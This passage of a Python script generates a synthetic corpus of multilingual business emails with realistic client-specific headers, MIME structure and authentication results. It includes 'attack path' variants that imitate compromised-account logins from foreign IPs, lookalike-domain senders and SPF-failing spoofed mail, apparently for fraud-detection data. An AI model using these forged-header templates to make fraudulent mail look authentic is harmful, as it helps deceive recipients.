        if ui == "it": h = f"Il giorno {IT_DA[wd]} {d} {IT_MA[mo]} {y} alle ore {t:%H:%M} {name} <{email}> ha scritto:"
        elif ui == "fr": h = f"Le {FR_DA[wd]} {d} {FR_MA[mo]} {y} à {t:%H:%M}, {name} <{email}> a écrit :"
        elif ui == "es": h = f"El {ES_DA[wd]}, {d} {ES_MA[mo]} {y} a las {t:%H:%M}, {name} (<{email}>) escribió:"
        elif ui == "pt": h = f"Em {PT_DA[wd]}, {d} de {PT_MA[mo]} de {y} às {t:%H:%M}, {name} <{email}> escreveu:"
        else: h = f"On {t:%a}, {t:%b} {d}, {y} at {t.hour % 12 or 12}:{t:%M} {t:%p} {name} <{email}> wrote:"
        return "\n\n" + h + "\n\n" + gt
    if client in ("apple", "iphone"):
        if ui == "ptpt": h = f"A {t.day} de {PT_MA[t.month - 1]} de {t.year}, às {t:%H:%M}, {name} <{email}> escreveu:"
        elif ui == "es": h = f"El {t.day} {ES_MA[t.month - 1]} {t.year}, a las {t:%H:%M}, {name} <{email}> escribió:"
        else: h = f"On {t.day} {t:%b} {t.year}, at {t:%H:%M}, {name} <{email}> wrote:"
        return ("\n\n" if client == "iphone" else "\n\n") + h + "\n\n" + gt
    if client == "roundcube":
        if ui == "ptpt": return f"\n\nEm {t:%Y-%m-%d %H:%M}, {name} escreveu:\n" + gt
        return f"\n\nLe {t:%d/%m/%Y %H:%M}, {name} a écrit :\n" + gt
    if client == "register": return f"\n\nIl {t:%d/%m/%Y %H:%M} {name} ha scritto:\n" + gt
    if client == "aruba": return f"\n\nIl {t:%d.%m.%Y} {t:%H:%M} {name} ha scritto:\n\n" + gt
    if client == "libero": return f"\n\n> Il {t:%d/%m/%Y %H:%M} {t:%Z} {name} <{email}> ha scritto:\n> \n" + gt.replace("\n", "\n", 0)
    if client == "tb":
        if ui == "en": return f"\n\nOn {t.month}/{t.day}/{t:%y} {t:%H:%M}, {name} wrote:\n" + gt
        return f"\n\nIl {t:%d/%m/%y %H:%M}, {name} ha scritto:\n" + gt
    if client == "zimbra":
        tos = ", ".join(f'"{n}" <{e}>' for n, e in q["to"])
        return (f"\n\n----- Mail original -----\nDe: \"{name}\" <{email}>\nÀ: {tos}\nEnvoyé: {FR_D[t.weekday()].capitalize()} {t.day} "
                f"{FR_M[t.month - 1].capitalize()} {t.year} {t:%H:%M:%S}\nObjet: {q['subj']}\n\n" + q["plain"])
    if client == "notes":
        tos = ", ".join(f'"{n}" <{e}>' for n, e in q["to"])
        if ui == "fr":
            return f"\n\n\n\nDe :\t\"{name}\" <{email}>\nA :\t{tos}\nDate :\t{t:%d/%m/%Y %H:%M}\nObjet :\t{q['subj']}\n\n\n\n" + q["plain"]
        return f"\n\n\n\nDa:\t\"{name}\" <{email}>\nA:\t{tos}\nData:\t{t:%d/%m/%Y %H:%M}\nOggetto:\t{q['subj']}\n\n\n\n" + q["plain"]
    return "\n\n" + gt


def rpfx(client, ui):
    if client in ("exch19", "o365", "ol16", "hotmail"): return {"it": "R: ", "fr": "RE : ", "es": "RE: ", "pt": "RES: "}.get(ui, "RE: ")
    if client == "notes": return {"it": "RIF: ", "fr": "Réf. : "}.get(ui, "Re: ")
    return "Re: "


# ------------------------------------------------------------------ headers, encodings, transport
def ew(s, cs="UTF-8", mode="B"):
    """RFC 2047 encoded-word(s) when needed, split in chunks that keep each line short"""
    if s.isascii(): return s
    try: b = s.encode(cs)
    except UnicodeEncodeError: cs, b = "UTF-8", s.encode("utf-8")
    chunks, cur = [], b""
    for ch in s:
        cb = ch.encode(cs)
        if len(cur) + len(cb) > (36 if mode == "B" else 22): chunks.append(cur); cur = b""
        cur += cb
    if cur: chunks.append(cur)
    out = []
    for c in chunks:
        if mode == "B": out.append(f"=?{cs}?B?{base64.b64encode(c).decode()}?=")
        else: out.append(f"=?{cs}?Q?" + "".join(chr(x) if (x < 128 and (chr(x).isalnum() or chr(x) in "-.!*+/")) else "_" if x == 32 else f"={x:02X}" for x in c) + "?=")
    return "\n ".join(out)


HDRCS = {"exch19": ("iso-8859-1", "Q"), "ol16": ("iso-8859-1", "Q"), "o365": ("utf-8", "B"), "gmail": ("UTF-8", "B"), "gws": ("UTF-8", "B"),
         "apple": ("utf-8", "Q"), "iphone": ("utf-8", "Q"), "notes": ("ISO-8859-1", "Q"), "zimbra": ("utf-8", "Q"), "roundcube": ("UTF-8", "Q"),
         "aruba": ("ISO-8859-15", "Q"), "libero": ("UTF-8", "Q"), "register": ("UTF-8", "Q"), "tb": ("UTF-8", "Q"), "bot": ("UTF-8", "B"),
         "phpmailer": ("iso-8859-1", "Q"), "hotmail": ("utf-8", "B")}


def addr(n, e, client="o365"):
    if not n: return e
    cs, mode = HDRCS.get(client, ("UTF-8", "Q"))
    if n.isascii(): return (f'"{n}" <{e}>' if any(c in n for c in ".,:;@()") else f"{n} <{e}>")
    return f"{ew(n, cs, 'Q')} <{e}>"


def date_hdr(client, t):
    s = f"{t:%a}, {t.day} {t:%b %Y %H:%M:%S %z}"
    if client in ("roundcube", "register", "aruba", "phpmailer"): s = t.strftime("%a, %d %b %Y %H:%M:%S %z")
    if client in ("zimbra", "libero"): s += f" ({t:%Z})" if not t.tzname().startswith(("+", "-")) else ""
    return s


MX = f"mx1.{OWN}"
INFRA = {  # name: (helo/rdns of the last hop before our MX, ip, dkim d, selector) ; d None = not signed
    "exo-bellini": None, "exo-dubois": None, "exo-delmas": None, "exo-santos": None, "exo-assospedi": None, "exo-medlink": None,
    "aruba": ("smtpdh18-2.aruba.it", "62.149.155.168", "autotrasportirossi.example", "a1"),
    "register": ("smtpcmd13147.aruba.it" if False else "relay-out3.register.it", "195.110.124.133", "oleificiomarchi.example", "reg2023"),
    "notes-conti": ("mail.tessituraconti.example", "93.62.140.211", "tessituraconti.example", "tc1"),
    "notes-ama": ("smtp-gw.anvers-maritime.example", "91.183.52.17", "anvers-maritime.example", "ama2022"),
    "libero": ("smtp-35.iol.local" if False else "libero.it", "213.209.10.35", "libero.it", "s2021"),
    "gws-pace": ("mail-ed1-f53.google.com", "209.85.208.53", "periziepace.example", "google"),
    "gws-azteca": ("mail-pl1-f176.google.com", "209.85.214.176", "importadoraazteca.example", "google"),
    "gws-cantabrico": ("mail-wm1-f44.google.com", "209.85.128.44", "conservasdelcantabrico.example", "google"),
    "gws-serraverde": ("mail-qt1-f174.google.com", "209.85.160.174", "laticiniosserraverde.example", "google"),
    "gmail": ("mail-wr1-f49.google.com", "209.85.221.49", "gmail.com", "20230601"),
    "ovh": ("mo555.mail-out.ovh.net", "46.105.75.36", None, None),
    "zimbra": ("mail.groupage-alpes.example", "185.22.108.40", "groupage-alpes.example", "8C4E1F2A-7B3D-11EE-9A5B-6E0D2C4F1A87"),
    "dinahost": ("smtp-out2.dinahost.example", "82.98.134.79", "levante-transitarios.example", "dh1"),
    "cpanel-pt": ("srv42.ptisp-hosting.example", "185.32.188.42", "ribeiro-despachos.example", "default"),
    "medlink": ("mta01.medlink-line.example", "194.116.73.20", "medlink-line.example", "mdl2024"),
    "list": ("mail-sor-f69.google.com", "209.85.220.69", "googlegroups.com", "20230601"),
    "pec-aruba": ("smtpdoor.pec.aruba.it", "62.149.157.41", None, None),
    "pec-legalmail": ("mx-pec.legalmail.it", "83.103.18.21", None, None),
    "hotmail": ("mail-vi1eur04olkn2050.outbound.protection.outlook.com", "40.92.75.50", "hotmail.fr", "selector1"),
    "vps": ("vps-3f2a1c.cloudvps-hosting.example", "45.95.169.23", None, None),
}
for dom, (host, reg, tid, oh, ip) in TENANT.items():
    INFRA["exo-" + {"doganebellini.example": "bellini", "transports-dubois.example": "dubois", "delmas-douane.example": "delmas",
                    "santoscargo.example": "santos", "assospedi-liguria.example": "assospedi", "medlink-line.example": "medlink"}[dom]] = (oh, ip, dom, "selector1")


def mx_top(t, helo, ip, env, d, s, spf="pass", dkim=None, dmarc="pass", hdr_from=None, rdns=None):
    tmx = t + datetime.timedelta(seconds=R.randint(2, 14)); t2 = tmx + datetime.timedelta(seconds=1)
    rl = tmx.astimezone(ROM)
    envd = env.split("@")[1]; hdr_from = hdr_from or envd
    dk = dkim or ("pass" if d else "none")
    ar = f"{MX};\n\tdkim={dk}" + (f" (2048-bit key; unprotected) header.d={d} header.i=@{d} header.s={s} header.b={b64(6)[:8]}" if d else " (no signatures found)")
    ar += f";\n\tspf={spf} ({MX}: domain of {env} {'designates' if spf == 'pass' else 'does not designate'} {ip} as permitted sender) smtp.mailfrom={envd}"
    ar += f";\n\tdmarc={dmarc} (p={'quarantine' if dmarc == 'pass' and d else 'none'} dis=none) header.from={hdr_from}"
    return [("Return-Path", f"<{env}>"),
            ("Received", f"from {MX} (10.0.1.11) by EXMBX01.lanterna.local (10.0.1.20) with Microsoft SMTP\n Server (version=TLS1_2, "
                         f"cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1544.11; {t2.astimezone(ROM):%a, %-d %b %Y %H:%M:%S %z}"),
            ("Received", f"from {helo} ({rdns or helo} [{ip}])\n\tby {MX} (Postfix) with ESMTPS id 4Z{alnum(9)}\n\tfor <{me.email}>; {rl:%a, %d %b %Y %H:%M:%S %z (%Z)}"),
            ("Authentication-Results", ar)]


def dkim_sig(d, s, t, hdrs="From:To:Subject:Date:Message-ID:In-Reply-To:References:Content-Type:MIME-Version"):
    return ("DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={d}; s={s};\n\tt={int(t.timestamp())}; bh={b64(32)};\n\th={hdrs};\n\tb={b64(190)}")


def transport(who, t, env=None, infra=None, variant=None):
    """Received chain etc. for a message of `who` arriving at Lanterna; variant selects the attack paths"""
    infra = infra or who.infra; env = env or who.email
    if infra in ("own", "own-pec"): return []
    I = INFRA[infra]; helo, ip, d, s = I
    hops, extra = [], []
    u = t.astimezone(UTC)
    if infra.startswith("exo-"):
        host, reg, tid, oh, oip = TENANT[who.dom]
        if variant == "smtp-auth":
            hops.append(("Received", f"from {host}.{reg.upper()}.PROD.OUTLOOK.COM ({'2603:10a6:102:' + hx(3) + '::' + hx(2)}) by\n {oh.split('.')[0].upper()}.mail.protection.outlook.com with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8489.19; {u:%a, %-d %b %Y %H:%M:%S +0000}"))
            aip = f"102.90.{R.randint(40, 90)}.{R.randint(2, 250)}"
            hops.append(("Received", f"from [{aip}] ({aip}) by {host}.{reg.upper()}.PROD.OUTLOOK.COM\n (2603:10a6:102:{hx(3)}::{hx(2)}) with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8489.19 via Frontend Transport; {u:%a, %-d %b %Y %H:%M:%S +0000}"))
        else:
            hops.append(("Received", f"from {host}.{reg.upper()}.PROD.OUTLOOK.COM\n ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}]) by {host}.{reg.upper()}.PROD.OUTLOOK.COM\n"
                                     f" ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}%7]) with mapi id 15.20.8489.019; {u:%a, %-d %b %Y %H:%M:%S +0000}"))
        extra += [("X-MS-Exchange-CrossTenant-Id", tid), ("X-MS-Exchange-CrossTenant-AuthSource", f"{host}.{reg.upper()}.PROD.OUTLOOK.COM"),
                  ("X-MS-Exchange-CrossTenant-AuthAs", "Internal"), ("X-MS-Exchange-CrossTenant-originalarrivaltime", f"{u:%d %b %Y %H:%M:%S.}{R.randint(100, 999)} (UTC)"),
                  ("X-MS-Exchange-Transport-CrossTenantHeadersStamped", f"{host}")]
        spf_ip = oip; helo = oh
    elif infra in ("gws-pace", "gws-azteca", "gws-cantabrico", "gws-serraverde", "gmail"):
        hops.append(("Received", f"by {helo} with SMTP id {hx(10)}{R.randint(10**5, 10**6)}.{R.randint(1, 9)}\n\tfor <{me.email}>; "
                                 f"{t.astimezone(PST):%a, %d %b %Y %H:%M:%S %z (%Z)}"))
        hops.append(("X-Received", f"by 2002:a05:6000:{hx(3)}:b0:{hx(3)}:{hx(4)}:{hx(4)} with SMTP id {hx(12)}.{R.randint(10, 99)}.{int(t.timestamp())};\n"
                                   f"        {t.astimezone(PST):%a, %d %b %Y %H:%M:%S %z (%Z)}"))
        extra += [("X-Google-Smtp-Source", "AGHT+I" + b64(60)[:72]), ("X-Gm-Message-State", "AOJu0Y" + b64(45)[:60])]
        if infra == "gmail": extra.append(("X-Gm-Gg", "ASbGnc" + b64(40)[:54]))
        spf_ip = ip
    elif infra == "aruba":
        hops.append(("Received", f"from webmail.aruba.it ([62.149.158.{R.choice((91, 92, 93))}])\n\tby smtpcmd15177.aruba.it with bizsmtp\n\tid {alnum(6)}{alnum(12)}; "
                                 f"{t.astimezone(ROM):%a, %d %b %Y %H:%M:%S %z}"))
        extra += [("X-Sender", who.email), ("X-Originating-IP", "[62.149.158.92]")]
        spf_ip = ip
    elif infra == "register":
        hops.append(("Received", f"from webmail.register.it (webmail-03.register.it [195.110.124.{R.choice((60, 61))}])\n\tby relay-out3.register.it (Postfix) with ESMTPSA id {HX(10)}\n\t"
                                 f"for <{me.email}>; {t.astimezone(ROM):%a, %d %b %Y %H:%M:%S %z (%Z)}"))
        spf_ip = ip
    elif infra.startswith("notes"):
        srv = {"notes-conti": "DOMSRV01/TESSCONTI", "notes-ama": "AMA-MAIL01/AMA"}[infra]
        hops.append(("Received", f"from {srv.split('/')[0].lower()}.{who.dom} ([10.{R.randint(1, 20)}.1.{R.randint(5, 30)}])\n\tby {helo} with ESMTP id {HX(10)}\n\tfor <{me.email}>; "
                                 f"{t.astimezone(who.tz):%a, %d %b %Y %H:%M:%S %z}"))
        extra += [("X-MIMETrack", f"Serialize by Router on {srv}(Release 12.0.2FP2|February 12, 2024) at\n {t.astimezone(who.tz):%d/%m/%Y %H:%M:%S},\n\t"
                                  f"Serialize complete at {t.astimezone(who.tz):%d/%m/%Y %H:%M:%S}")]
        spf_ip = ip
    elif infra == "libero":
        hops.append(("Received", f"from libero.it ([10.101.{R.randint(0, 9)}.{R.randint(10, 60)}])\n\tby smtp-35.iol.local with ESMTPA\n\tid t{alnum(15)}; "
                                 f"{t.astimezone(ROM):%a, %d %b %Y %H:%M:%S %z}"))
        extra += [("x-libjamoibt", "1601"), ("X-CNFS-Analysis", f"v=2.4 cv=Y{alnum(5)} c=1 sm=1 tr=0 ts={hx(8)}")]
        helo = "smtp-35.libero.it"; spf_ip = ip
    elif infra == "ovh":
        hops.append(("Received", f"from mxplan6.mail.ovh.net (unknown [10.109.{R.randint(100, 250)}.{R.randint(1, 250)}])\n\tby mo555.mail-out.ovh.net (Postfix) with ESMTPS id 4Z{alnum(9)}\n\t"
                                 f"for <{me.email}>; {u:%a, %d %b %Y %H:%M:%S +0000 (UTC)}"))
        hops.append(("Received", f"from ovh.net (37.59.142.{R.randint(96, 110)}) by mxplan6.mail.ovh.net (172.16.2.{R.randint(10, 90)})\n with Microsoft SMTP Server "
                                 f"(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.1.2507.39; {t.astimezone(PAR):%a, %-d %b %Y %H:%M:%S %z}"))
        extra += [("X-Ovh-Tracer-Id", f"{R.randint(10**18, 10**19 - 1)}"), ("X-VR-SPAMSTATE", "OK")]
        spf_ip = ip
    elif infra == "zimbra":
        hops.append(("Received", f"from mail.groupage-alpes.example (localhost [127.0.0.1])\n\tby mail.groupage-alpes.example (Postfix) with ESMTPS id {HX(10)}\n\t"
                                 f"for <{me.email}>; {t.astimezone(PAR):%a, %-d %b %Y %H:%M:%S %z (%Z)}"))
        hops.append(("Received", f"from [10.0.0.{R.randint(20, 60)}] by mail.groupage-alpes.example (zimbra) with LMTP; {t.astimezone(PAR):%a, %-d %b %Y %H:%M:%S %z}"))
        spf_ip = ip
    elif infra == "dinahost":
        if variant != "hijack-same":
            pass
        hops.append(("Received", f"from PCOFI05 (84.125.{R.randint(100, 120)}.{R.randint(2, 250)}.static.user.ono.example [84.125.{R.randint(100, 120)}.{R.randint(2, 250)}])\n\t"
                                 f"(Authenticated sender: jortega@levante-transitarios.example)\n\tby smtp-out2.dinahost.example (Postfix) with ESMTPSA id {HX(10)}\n\t"
                                 f"for <{me.email}>; {t.astimezone(MAD):%a, %-d %b %Y %H:%M:%S %z (%Z)}"))
        spf_ip = ip
    elif infra == "cpanel-pt":
        if variant == "webmail-foreign":
            hops.append(("Received", f"from [197.211.{R.randint(40, 60)}.{R.randint(2, 250)}] (port={R.randint(40000, 60000)} helo=webmail.ribeiro-despachos.example)\n\t"
                                     f"by srv42.ptisp-hosting.example with esmtpsa (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.98)\n\t(envelope-from <{env}>)\n\t"
                                     f"id 1t{alnum(4)}-{alnum(7)}-{alnum(2)};\n\t{t.astimezone(LIS):%a, %d %b %Y %H:%M:%S %z}"))
        else:
            hops.append(("Received", f"from [89.155.{R.randint(100, 110)}.{R.randint(2, 250)}] (port={R.randint(50000, 60000)} helo=[192.168.1.{R.randint(60, 70)}])\n\t"
                                     f"by srv42.ptisp-hosting.example with esmtpsa (TLS1.3) tls TLS_AES_128_GCM_SHA256\n\t(Exim 4.98)\n\t(envelope-from <{env}>)\n\t"
                                     f"id 1t{alnum(4)}-{alnum(7)}-{alnum(2)};\n\t{t.astimezone(LIS):%a, %d %b %Y %H:%M:%S %z}"))
        spf_ip = ip
    elif infra == "medlink":
        hops.append(("Received", f"from ebooking-app02.medlink-line.example (10.20.4.12)\n\tby mta01.medlink-line.example (Postfix) with ESMTP id {HX(10)};\n\t"
                                 f"{u:%a, %d %b %Y %H:%M:%S +0000 (UTC)}"))
        extra += [("X-Auto-Response-Suppress", "All"), ("Auto-Submitted", "auto-generated")]
        spf_ip = ip
    elif infra == "list":
        hops.append(("Received", f"by mail-sor-f69.google.com with SMTP id {hx(10)}{R.randint(10**5, 10**6)}.{R.randint(1, 9)}\n\tfor <{me.email}>; "
                                 f"{t.astimezone(PST):%a, %d %b %Y %H:%M:%S %z (%Z)}"))
        spf_ip = ip
    elif infra.startswith("pec"):
        prov = "pec.aruba.it" if infra == "pec-aruba" else "legalmail.it"
        hops.append(("Received", f"from {'smtpdoor' if infra == 'pec-aruba' else 'pecgw03'}.{prov} ([{'62.149.157.' + str(R.randint(30, 50)) if infra == 'pec-aruba' else '83.103.18.' + str(R.randint(10, 30))}])\n\t"
                                 f"by mx01.legalmail.it with ESMTPS id {HX(12)}\n\tfor <{mepec.email}>; {t.astimezone(ROM):%a, %d %b %Y %H:%M:%S %z}"))
        top = [("Return-Path", f"<{env}>"),
               ("Received", f"from mbox-pec.legalmail.it by imap.legalmail.it (Dovecot) with LMTP id {alnum(22)}\n\tfor <{mepec.email}>; {t.astimezone(ROM):%a, %d %b %Y %H:%M:%S %z}")]
        return top + hops
    elif infra == "hotmail":
        hn = "AS8P250MB0" + str(R.randint(100, 999))
        hops.append(("Received", f"from {hn}.EURP250.PROD.OUTLOOK.COM ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}]) by\n {hn}.EURP250.PROD.OUTLOOK.COM ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}%4])\n"
                                 f" with mapi id 15.20.8489.019; {u:%a, %-d %b %Y %H:%M:%S +0000}"))
        extra += [("x-ms-exchange-messagesentrepresentingtype", "1"), ("X-MS-Exchange-CrossTenant-Id", "84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa")]
        spf_ip = ip
    elif infra == "vps":
        hops.append(("Received", f"from localhost (localhost [127.0.0.1])\n\tby vps-3f2a1c.cloudvps-hosting.example (Postfix) with ESMTP id {HX(10)}\n\t"
                                 f"for <{me.email}>; {u:%a, %d %b %Y %H:%M:%S +0000 (UTC)}"))
        spf_ip = ip
    elif infra.startswith("look-"):
        helo, ip, d, s = LOOK[infra]
        hops.append(("Received", f"from [{LOOKSRC[infra]}] (helo=DESKTOP-{HX(7)})\n\tby {helo} with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.97.1)\n\t"
                                 f"(envelope-from <{env}>)\n\tid 1t{alnum(4)}-{alnum(7)}-{alnum(2)}\n\tfor {me.email};\n\t{u:%a, %d %b %Y %H:%M:%S +0000}"))
        spf_ip = ip
    else:
        spf_ip = ip
    spf = "pass"; dk = None; dmarc = "pass" if d else "none"
    hdr_from = None
    if infra == "vps": spf, dmarc, hdr_from = "softfail", "none", who.dom
    if infra == "list": hdr_from = "googlegroups.com"
    top = mx_top(t, helo, spf_ip, env, d, s, spf=spf, dkim=dk, dmarc=dmarc, hdr_from=hdr_from)
    sigs = [dkim_sig(d, s, t)] if d else []
    if infra == "list": sigs.append(dkim_sig("spedizionineri.example", "mail", t))
    return top + hops + sigs + extra


LOOK, LOOKSRC = {}, {}

UA = {"ol16": ("X-Mailer", "Microsoft Outlook 16.0"), "apple": ("X-Mailer", "Apple Mail (2.3826.400.131.1.6)"),
      "iphone": ("X-Mailer", "iPhone Mail (22D82)"), "roundcube": ("User-Agent", "Roundcube Webmail/1.6.9"),
      "register": ("User-Agent", "Roundcube Webmail/1.5.8"), "aruba": ("User-Agent", "Aruba Webmail 2.0"),
      "libero": ("User-Agent", "Open-Xchange Mailer v7.10.6-Rev68"), "tb": ("User-Agent", "Mozilla Thunderbird"),
      "zimbra": ("X-Mailer", "Zimbra 10.0.12_GA_4652 (ZimbraWebClient - GC132 (Win)/10.0.12_GA_4652)"),
      "notes": ("X-Mailer", "HCL Notes Release 12.0.2FP2 February 12, 2024"), "phpmailer": ("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)")}

# per client: text charset ("latin" = iso-8859-1, else windows-1252, else utf-8), transfer encoding, html style, format=flowed
BODY = {"exch19": ("latin", "quoted-printable", True), "o365": ("utf-8", "quoted-printable", True), "ol16": ("latin", "quoted-printable", True),
        "gmail": ("UTF-8", "quoted-printable", True), "gws": ("UTF-8", "quoted-printable", True), "apple": ("utf-8", "quoted-printable", True),
        "iphone": ("utf-8", "quoted-printable", False), "roundcube": ("UTF-8", "quoted-printable", False), "register": ("UTF-8", "8bit", False),
        "aruba": ("ISO-8859-15", "quoted-printable", False), "libero": ("UTF-8", "base64", True), "zimbra": ("utf-8", "quoted-printable", True),
        "notes": ("ISO-8859-1", "quoted-printable", True), "tb": ("UTF-8", "8bit", False), "bot": ("UTF-8", "base64", True),
        "phpmailer": ("iso-8859-1", "quoted-printable", False), "hotmail": ("utf-8", "quoted-printable", True)}


def pick_cs(cs, text):
    if cs != "latin": 
        try: text.encode(cs); return cs
        except UnicodeEncodeError: return "utf-8"
    for c in ("iso-8859-1", "Windows-1252"):
        try: text.encode(c); return c
        except UnicodeEncodeError: pass
    return "utf-8"


def html_of(client, plain):
    esc = "<br>\n".join(H.escape(l) if l else "" for l in plain.split("\n"))
    if client in ("exch19", "ol16"):
        lang = "IT" if client == "exch19" else "ES"
        return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" '
                'xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40"><head><meta name="Generator" content="Microsoft Word 15 (filtered medium)">'
                '<style><!--\n/* Style Definitions */\np.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0cm;font-size:11.0pt;font-family:"Calibri",sans-serif;}\n--></style></head>'
                f'<body lang="{lang}" link="#0563C1" vlink="#954F72" style="word-wrap:break-word"><div class="WordSection1"><p class="MsoNormal">' + esc + "<o:p></o:p></p></div></body></html>")
    if client in ("o365", "hotmail"):
        return ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>'
                '</head><body dir="ltr"><div class="elementToProof" style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; '
                'font-size: 12pt; color: rgb(0, 0, 0);">' + esc + "</div></body></html>")
    if client in ("gmail", "gws"): return '<div dir="ltr">' + esc + "</div>"
    if client == "apple":
        return ('<html aria-label="message body"><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="overflow-wrap: break-word; '
                '-webkit-nbsp-mode: space; line-break: after-white-space;">' + esc + "</body></html>")
    if client == "zimbra":
        return ('<html><body><div style="font-family: arial, helvetica, sans-serif; font-size: 12pt; color: #000000"><div>' + esc + "</div></div></body></html>")
    if client == "notes": return '<font size=2 face="sans-serif">' + esc + "</font>"
    if client == "libero":
        return ('<!doctype html>\n<html>\n <head>\n  <meta charset="UTF-8">\n </head>\n <body>\n  <div class="default-style">\n   ' + esc + "\n  </div>\n </body>\n</html>")
    if client == "bot":
        return '<html><body style="font-family:Arial,sans-serif;font-size:13px;color:#1d2b3a">' + esc + "</body></html>"
    return None


def boundary(client, t):
    return {"exch19": f"_000_{hx(32)}EXMBX01lanternalocal_", "o365": f"_000_{HX(13)}{HX(16)}_", "ol16": f"----=_NextPart_000_00{HX(2)}_01DB{HX(4)}.{HX(8)}",
            "gmail": "000000000000" + hx(16), "gws": "000000000000" + hx(16), "apple": f"Apple-Mail={ruuid().upper()}", "iphone": f"Apple-Mail-{HX(8)}-{HX(4)}-{HX(4)}",
            "zimbra": f"=_{ruuid()}", "notes": f"=_alternative {HX(8)}C1258C{HX(2)}_=", "libero": f"----=_Part_{R.randint(10**5, 10**6)}_{R.randint(10**8, 10**9)}.{int(t.timestamp() * 1000)}",
            "roundcube": f"=_{hx(32)}", "register": f"=_{hx(32)}", "aruba": f"=_{hx(32)}", "bot": f"----=_MDL_{hx(24)}", "tb": "------------" + alnum(24),
            "phpmailer": "b1=_" + alnum(40), "hotmail": f"_000_{HX(13)}{HX(16)}_"}.get(client, "=_" + hx(24))


def textpart(client, ctype, text, flowed=False):
    cs, cte, _ = BODY[client]
    cs = pick_cs(cs, text)
    data = text.encode(cs)
    q = '"' if client in ("exch19", "ol16", "o365", "notes", "apple", "iphone", "hotmail") else ""
    fl = "; format=flowed" if flowed else ""
    if cs.lower() == "utf-8" and client in ("exch19", "ol16"): q = '"'
    if cte == "8bit" and text.isascii(): cte_eff = "7bit"
    else: cte_eff = cte
    if client in ("gmail", "gws") and text.isascii(): cte_eff = "7bit"
    head = [f"Content-Type: {ctype}; charset={q}{cs}{q}{fl}", f"Content-Transfer-Encoding: {cte_eff}", ""]
    if cte_eff == "quoted-printable": return head + [quopri.encodestring(data).decode("ascii")]
    if cte_eff == "base64": return head + [base64.encodebytes(data).decode("ascii").rstrip("\n")]
    return head + [text]


pending = []  # (utc time, folder, raw, (mid, label, kind) or None, (scenario, description) or None)


def build(who, client, t, to, cc, subj, refs, plain, html=None, atts=(), extra=(), infra=None, env=None, frm=None, irt=None,
          mid=None, tidx=None, topic=None, variant=None, reply_to=None, date_t=None, no_html=False, ui=None, no_ua=False):
    m = mid or make_mid(who, client, t)
    folder = "Sent" if who in ME_IDS else "INBOX"
    h = []
    if folder == "INBOX": h += transport(who, t, env, infra, variant)
    cs, mode = HDRCS.get(client, ("UTF-8", "Q"))
    h += [("From", frm or addr(who.name, who.email, client)), ("To", ", ".join(addr(n, e, client) for n, e in to))]
    if cc: h.append(("Cc", ", ".join(addr(n, e, client) for n, e in cc)))
    if reply_to: h.append(("Reply-To", reply_to))
    h += [("Subject", ew(subj, cs, mode)), ("Date", date_hdr(client, date_t or t)), ("Message-ID", m)]
    if refs: h += [("In-Reply-To", irt or refs[-1]), ("References", "\n ".join(refs))]
    if client in ("exch19", "o365", "ol16", "zimbra", "hotmail"):
        tp = topic or subj
        h += [("Thread-Topic", ew(tp, cs, mode)), ("Thread-Index", tidx or base64.b64encode(b"\x01" + rbytes(21)).decode())]
    if client in ("exch19", "o365", "ol16", "hotmail"):
        lang = {"it": "it-IT", "fr": "fr-FR", "es": "es-ES", "pt": "pt-BR", "en": "en-US"}.get(ui or who.ui, "it-IT")
        if client in ("exch19", "o365", "hotmail"): h += [("Accept-Language", f"{lang}, en-US")]
        h += [("Content-Language", lang)]
        if client in ("exch19", "o365", "hotmail"):
            h += [("X-MS-Has-Attach", "yes" if atts else ""), ("X-MS-TNEF-Correlator", "")]
        if client == "exch19": h += [("x-originating-ip", "[10.0.2.57]")]
    if client in UA and not no_ua: h.append(UA[client])
    if client == "notes": h.append(("X-Priority", "3 (Normal)"))
    h += list(extra) + [("MIME-Version", "1.0")]
    has_html = BODY.get(client, ("", "", False))[2] and not no_html
    if html is None and has_html: html = html_of(client, plain)
    flowed = client in ("roundcube", "tb", "register")
    alt = textpart(client, "text/plain", plain, flowed)
    if html:
        ab = boundary(client, t)
        if client == "notes": ab = ab.replace("alternative", "alternative")
        alt = [f'Content-Type: multipart/alternative; boundary="{ab}"', "", f"--{ab}"] + textpart(client, "text/plain", plain, flowed) + [f"--{ab}"] + textpart(client, "text/html", html) + [f"--{ab}--"]
    if atts:
        mb = boundary(client, t).replace("_000_", "_004_").replace("alternative", "mixed").replace("_NextPart_000_", "_NextPart_000_").replace("Part_", "Part_")
        if client == "ol16": mb = mb.replace("_NextPart_000_", "_NextPart_001_", 0)
        body = [f'Content-Type: multipart/mixed; boundary="{mb}"', "", f"--{mb}"] + alt
        for item in atts:
            name, data, ctype = item[:3]
            disp = item[3] if len(item) > 3 else None
            if ctype == "message/rfc822":
                body += [f"--{mb}", f'Content-Type: message/rfc822; name="{name}"', f'Content-Disposition: {disp or "attachment"}; filename="{name}"', "", data.rstrip("\r\n")]
                continue
            if ctype.startswith("text/") and not isinstance(data, bytes) and client != "bot":
                pass
